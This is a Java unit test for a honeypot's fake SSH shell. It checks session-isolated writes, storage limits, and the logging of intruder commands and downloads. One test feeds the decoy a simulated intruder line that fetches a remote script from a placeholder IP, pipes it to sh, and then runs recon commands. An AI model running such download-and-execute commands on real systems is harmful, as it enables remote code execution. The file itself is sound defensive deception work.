package dev.vigil.deception.decoy.ssh;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The fake shell without a network: what an intruder sees and what the decoy is told. */
class FakeShellTest {
    private final List<String> reads = new ArrayList<>(), downloads = new ArrayList<>(), commands = new ArrayList<>();
    private final FakeFilesystem fs = new FakeFilesystem("svc_backup", "fs01",
            Map.of("/home/svc_backup/Documents/plan.txt", "Project HARBOR\n".getBytes(StandardCharsets.UTF_8)));
    private final FakeShell shell = new FakeShell("svc_backup", "fs01", fs, new FakeShell.Events() {
        @Override public void command(String line) { commands.add(line); }
        @Override public void download(String line, String url) { downloads.add(url); }
        @Override public void fileRead(String path, long bytes) { reads.add(path); }
    });

    @Test
    void writesStayInTheSessionAndAreNoDecoyReads() {
        assertThat(shell.run("echo hello > note.txt")).isEmpty();
        assertThat(shell.run("echo again >> note.txt")).isEmpty();
        assertThat(shell.run("cat note.txt")).isEqualTo("hello\nagain\n");
        assertThat(shell.run("touch /tmp/x; mkdir /tmp/d; ls /tmp")).isEqualTo("d  x\n");
        assertThat(shell.run("echo x > Documents/plan.txt")).contains("Permission denied");
        assertThat(shell.run("echo x > /nope/f")).contains("No such file or directory");
        assertThat(shell.run("cat Documents/plan.txt")).isEqualTo("Project HARBOR\n");
        assertThat(reads).containsExactly("/home/svc_backup/Documents/plan.txt");
        assertThat(shell.run("rm note.txt; cat note.txt")).contains("No such file or directory");
        // another session sees none of it
        FakeShell other = new FakeShell("svc_backup", "fs01", fs, new FakeShell.Events() {
            @Override public void command(String line) { }
            @Override public void download(String line, String url) { }
            @Override public void fileRead(String path, long bytes) { }
        });
        assertThat(other.run("ls /tmp")).isEmpty();
    }

    @Test
    void writesAreBounded() {
        String big = "A".repeat(3000);
        String last = "";
        for (int i = 0; i < 200; i++) last = shell.run("echo " + big + " >> /tmp/big");
        assertThat(last).contains("No space left on device");
        assertThat(shell.run("wc -c /tmp/big")).contains("command not found");
        for (int i = 0; i < 300; i++) last = shell.run("touch /tmp/f" + i);
        assertThat(last).contains("No space left on device");
    }

    @Test
    void pipesAndDownloadsAreEachAnswered() {
        String shown = shell.run("wget http://198.51.100.7/a.sh -O- | sh; id && uname -a");
        assertThat(downloads).containsExactly("http://198.51.100.7/a.sh");
        assertThat(shown).contains("unable to resolve host address").contains("uid=1000(svc_backup)").contains("Linux fs01");
        assertThat(commands).containsExactly("wget http://198.51.100.7/a.sh -O- | sh; id && uname -a");
    }
}
